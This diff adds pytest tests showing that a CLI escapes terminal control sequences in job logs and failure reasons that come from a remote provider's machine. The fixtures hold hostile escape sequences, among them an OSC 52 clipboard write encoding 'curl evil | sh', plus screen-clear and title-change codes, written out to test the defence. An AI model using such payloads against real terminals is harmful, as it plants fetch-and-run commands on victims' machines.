@@ -227,6 +227,37 @@ def test_logs_follow_reads_on_from_each_cursor_and_waits_only_when_nothing_came(
     assert client.cursors == [0, 2, 2] and waits == [0.5]
 
 
+class _Terminal(io.StringIO):
+    def isatty(self) -> bool:
+        return True
+
+
+HOSTILE = "epoch 1\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J\x1b]0;owned\x07\x9b31m\tok\r\n"
+
+
+def test_a_jobs_output_cannot_drive_the_renters_terminal_but_reaches_a_file_as_it_came() -> None:
+    """The output comes from the provider's machine: written raw to a terminal it set the
+    renter's clipboard (OSC 52), cleared the screen, retitled the window."""
+    terminal, file = _Terminal(), io.StringIO()
+    for out in (terminal, file):
+        job_logs_print(
+            _Logs([{"chunks": [_chunk(1, HOSTILE)], "next_cursor": 1, "finished": True}]),  # type: ignore[arg-type]
+            7,
+            out=out,
+        )
+
+    shown = terminal.getvalue()
+    assert not any(c in shown for c in "\x1b\x07\x9b")
+    assert shown == "epoch 1\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\x1b[2J\\x1b]0;owned\\x07\\x9b31m\tok\r\n"
+    assert file.getvalue() == HOSTILE
+
+
+def test_a_jobs_failure_reason_from_its_machine_cannot_drive_the_terminal() -> None:
+    job = _job(status="failed", exit_code=3, failure_reason="oom\x1b]52;c;ZXZpbA==\x07")
+
+    assert why_text(job) == "Job 7 has ended: failed (exit code 3; oom\\x1b]52;c;ZXZpbA==\\x07)."
+
+
 def test_logs_without_follow_stops_when_nothing_more_came(capsys: pytest.CaptureFixture[str]) -> None:
     client = _Logs(
         [
